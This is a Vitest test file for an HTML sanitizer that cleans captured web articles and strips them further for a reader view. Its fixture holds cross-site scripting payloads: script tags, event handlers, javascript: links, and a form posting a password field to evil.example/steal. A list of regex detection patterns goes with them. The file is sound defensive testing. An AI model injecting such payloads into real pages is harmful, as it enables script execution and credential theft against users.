// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { createSanitizer } from '../../../src/sanitize/sanitize';

const { sanitizeCapture, sanitizeForReader } = createSanitizer(window);
const BASE = 'https://example.com/articles/post.html';

const HOSTILE = `
  <p>Intro <b>bold</b></p>
  <script>alert('script')</script>
  <img src="http://remote/x.png" onerror="alert('img')" alt="A chart">
  <img srcset="http://remote/a.png 1x, http://remote/b.png 2x" src="/y.png" onload="alert(1)">
  <div onclick="alert('div')" onmouseover="alert(2)">Clickable</div>
  <a href="javascript:alert('link')">js link</a>
  <a href="  javascript:alert('spaced')">spaced js link</a>
  <a href="JaVaScRiPt:alert(3)">mixed case</a>
  <a href="vbscript:msgbox(1)">vb</a>
  <a href="data:text/html,<script>alert(4)</script>">data link</a>
  <iframe src="https://evil.example/frame" onload="alert(5)"></iframe>
  <form action="https://evil.example/steal"><input name="pw"><button formaction="https://evil.example">Go</button></form>
  <svg><script>alert('svg')</script><circle r="1" onload="alert(6)"></circle></svg>
  <style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/bg.png) }</style>
  <object data="https://evil.example/x.swf"></object>
  <embed src="https://evil.example/x.swf">
  <meta http-equiv="refresh" content="0;url=https://evil.example/">
  <base href="https://evil.example/">
  <link rel="stylesheet" href="https://evil.example/s.css">
  <p style="background:url(https://evil.example/p.png)" class="x" id="clobber">Styled</p>
  <video poster="https://remote/poster.jpg" src="https://remote/v.mp4"></video>
  <details open ontoggle="alert(7)"><summary>More</summary>Details text</details>
  <math><mi xlink:href="javascript:alert(8)">x</mi></math>
  <noscript><img src="https://remote/noscript.png"></noscript>
  <template><img src="https://remote/t.png"></template>
  <table background="https://remote/t.png"><tr><td>cell</td></tr></table>
`;

const ACTIVE = [
  /<script/i, /<iframe/i, /<form/i, /<input/i, /<button/i, /<style/i, /<object/i, /<embed/i, /<meta/i, /<base/i,
  /<link/i, /<noscript/i, /<template/i, /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /data:text/i, /alert\(/,
  /@import/, /evil\.example/, /\sstyle=/i, /\sid=/i,
];

describe('sanitizeCapture', () => {
  const out = sanitizeCapture(HOSTILE, BASE);

  it('removes every active element, handler and dangerous URL', () => {
    for (const pattern of ACTIVE) expect(out, `matched ${pattern}`).not.toMatch(pattern);
    expect(out).not.toMatch(/\sclass=/i);
  });

  it('keeps text, images and links, with absolute URLs', () => {
    expect(out).toContain('Intro <b>bold</b>');
    expect(out).toContain('<img src="http://remote/x.png" alt="A chart">');
    expect(out).toContain('srcset="http://remote/a.png 1x, http://remote/b.png 2x"');
    expect(out).toContain('src="https://example.com/y.png"');
    expect(out).toContain('poster="https://remote/poster.jpg"');
    expect(out).toContain('Clickable');
    expect(out).toContain('<details open=""><summary>More</summary>Details text</details>');
    expect(out).toContain('<td>cell</td>');
    expect(out).not.toContain('background=');
  });

  it('makes relative href, src, srcset, poster and cite absolute and drops target', () => {
    const html =
      '<a href="../other.html#x" target="_blank" rel="author">rel</a><a href="#fn1">fn</a>' +
      '<picture><source srcset="img/a.webp 480w, img/b.webp 800w" type="image/webp"><img src="img/a.jpg" alt="alt text"></picture>' +
      '<video poster="p.jpg"><source src="v.mp4"><track src="subs.vtt"></video>' +
      '<blockquote cite="/quote">q</blockquote><a href="mailto:me@example.com">mail</a><img src="data:image/png;base64,AAAA" alt="d">';
    const result = sanitizeCapture(html, BASE);
    expect(result).toContain('<a href="https://example.com/other.html#x" rel="author">rel</a>');
    expect(result).toContain('href="https://example.com/articles/post.html#fn1"');
    expect(result).toContain('srcset="https://example.com/articles/img/a.webp 480w, https://example.com/articles/img/b.webp 800w"');
    expect(result).toContain('<img src="https://example.com/articles/img/a.jpg" alt="alt text">');
    expect(result).toContain('poster="https://example.com/articles/p.jpg"');
    expect(result).toContain('<source src="https://example.com/articles/v.mp4">');
    expect(result).toContain('<track src="https://example.com/articles/subs.vtt">');
    expect(result).toContain('cite="https://example.com/quote"');
    expect(result).toContain('href="mailto:me@example.com"');
    expect(result).toContain('src="data:image/png;base64,AAAA"');
    expect(result).not.toContain('target');
  });

  it('keeps structure: figures, tables, headings, lists, code, time, sup/sub, abbr, dir and lang', () => {
    const html =
      '<h2 dir="rtl" lang="ar">عنوان</h2><figure><img src="a.png" alt="a"><figcaption>Cap</figcaption></figure>' +
      '<table><thead><tr><th>h</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>' +
      '<ol><li>one</li></ol><pre><code>x = 1</code></pre><time datetime="2024-01-02">Jan 2</time>' +
      'H<sub>2</sub>O x<sup>2</sup> <abbr title="HyperText">HTML</abbr>';
    const result = sanitizeCapture(html, BASE);
    for (const piece of [
      '<h2 dir="rtl" lang="ar">', '<figcaption>Cap</figcaption>', '<thead><tr><th>h</th></tr></thead>', '<ol><li>one</li></ol>',
      '<pre><code>x = 1</code></pre>', '<time datetime="2024-01-02">Jan 2</time>', '<sub>2</sub>', '<sup>2</sup>',
      '<abbr title="HyperText">HTML</abbr>',
    ]) {
      expect(result).toContain(piece);
    }
  });

  it('removes hidden and aria-hidden elements but keeps hidden=until-found content', () => {
    const html =
      '<p>shown</p><p hidden>secret one</p><div aria-hidden="true">secret two</div>' +
      '<div aria-hidden="false">visible</div><div hidden="until-found">findable</div>';
    const result = sanitizeCapture(html, BASE);
    expect(result).toContain('shown');
    expect(result).toContain('visible');
    expect(result).toContain('findable');
    expect(result).not.toContain('secret');
    expect(result).not.toMatch(/\shidden[\s=>]/);
  });

  it('drops form controls with their text but unwraps forms', () => {
    const result = sanitizeCapture('<form><p>Article inside a form</p><button>Subscribe</button><select><option>Opt</option></select></form>', BASE);
    expect(result).toBe('<p>Article inside a form</p>');
  });

  it('keeps inline SVG but no references to other documents', () => {
    const result = sanitizeCapture(
      '<svg viewBox="0 0 2 2"><defs><linearGradient id="g"></linearGradient></defs>' +
        '<rect width="1" height="1" fill="url(#g)" filter="url(https://evil.example/f.svg#x)"></rect>' +
        '<image href="https://evil.example/i.png"></image><use href="https://evil.example/s.svg#a"></use></svg>',
      BASE,
    );
    expect(result).toContain('<svg viewBox="0 0 2 2">');
    // The in-page reference and the id it names, both prefixed (src/sanitize/anchors.ts).
    expect(result).toContain('fill="url(#user-content-g)"');
    expect(result).toContain('<linearGradient id="user-content-g">');
    expect(result).not.toMatch(/evil\.example|<image|<use/);
  });

  it('drops relative URLs when the base URL is unusable', () => {
    expect(sanitizeCapture('<a href="/x">x</a><img src="y.png">', 'not a url')).toBe('<a>x</a><img>');
  });
});

describe('sanitizeForReader', () => {
  const out = sanitizeForReader(HOSTILE);

  it('removes every active element, handler and dangerous URL', () => {
    for (const pattern of ACTIVE) expect(out, `matched ${pattern}`).not.toMatch(pattern);
    // The only class is the placeholder's own.
    expect(out.match(/\sclass="[^"]*"/g)?.every((c) => c === ' class="cp-media-alt"')).toBe(true);
  });

  it('can load nothing: no src, srcset, poster, background, style or url(', () => {
    expect(out).not.toMatch(/src=/i);
    expect(out).not.toMatch(/srcset/i);
    expect(out).not.toMatch(/poster/i);
    expect(out).not.toMatch(/background/i);
    expect(out).not.toMatch(/<style|\sstyle=/i);
    expect(out).not.toContain('url(');
    expect(out).not.toMatch(/on\w+=/i);
    expect(out).not.toMatch(/javascript:/i);
    expect(out).not.toMatch(/<(img|picture|video|audio|source|track|svg|iframe|object|embed|math)\b/i);
  });

  it('replaces media with alt-text placeholders', () => {
    expect(out).toContain('<span class="cp-media-alt" data-kind="image">A chart</span>');
    expect(out).toContain('<span class="cp-media-alt" data-kind="image">[image]</span>');
    expect(out).toContain('<span class="cp-media-alt" data-kind="video">[video]</span>');
    expect(out).toContain('<span class="cp-media-alt" data-kind="embed">[embedded content]</span>');
    const pic = sanitizeForReader(
      '<picture><source srcset="a.webp"><img src="a.jpg" alt="A cat"></picture><audio src="a.mp3"></audio>' +
        '<svg viewBox="0 0 1 1"><title>Diagram</title><image href="https://remote/i.png"/></svg><video title="Talk"></video>',
    );
    expect(pic).toBe(
      '<span class="cp-media-alt" data-kind="image">A cat</span><span class="cp-media-alt" data-kind="audio">[audio]</span>' +
        '<span class="cp-media-alt" data-kind="image">Diagram</span><span class="cp-media-alt" data-kind="video">Talk</span>',
    );
  });

  it('keeps only absolute http(s) and mailto links, opened in a new tab', () => {
    const result = sanitizeForReader(
      '<a href="https://example.com/a" target="_self" rel="opener">ok</a><a href="mailto:a@b.c">mail</a>' +
        '<a href="/relative">rel</a><a href="ftp://x/y">ftp</a><a href="  javascript:alert(1)">js</a><a href="tel:123">tel</a>',
    );
    expect(result).toBe(
      '<a href="https://example.com/a" target="_blank" rel="noopener noreferrer">ok</a>' +
        '<a href="mailto:a@b.c" target="_blank" rel="noopener noreferrer">mail</a>' +
        '<a>rel</a><a>ftp</a><a>js</a><a>tel</a>',
    );
  });

  it('does not trust classes or data attributes from its input', () => {
    const result = sanitizeForReader('<p class="cp-media-alt" data-x="1">p</p><span class="evil cp-media-alt">s</span>');
    expect(result).toBe('<p>p</p><span>s</span>');
  });

  it('is idempotent on its own output and keeps text structure', () => {
    const html = sanitizeForReader(
      '<h1>T</h1><p dir="rtl" lang="he">x</p><table><tr><td colspan="2">c</td></tr></table><img alt="pic" src="http://a/b.png">',
    );
    expect(sanitizeForReader(html)).toBe(html);
    expect(html).toContain('<td colspan="2">c</td>');
    expect(html).toContain('<p dir="rtl" lang="he">x</p>');
  });

  it('handles capture output from another device the same way', () => {
    const stored = sanitizeCapture(HOSTILE, BASE);
    const shown = sanitizeForReader(stored);
    expect(shown).not.toMatch(/src=|srcset|url\(|on\w+=|javascript:/i);
    expect(shown).toContain('Intro <b>bold</b>');
  });
});
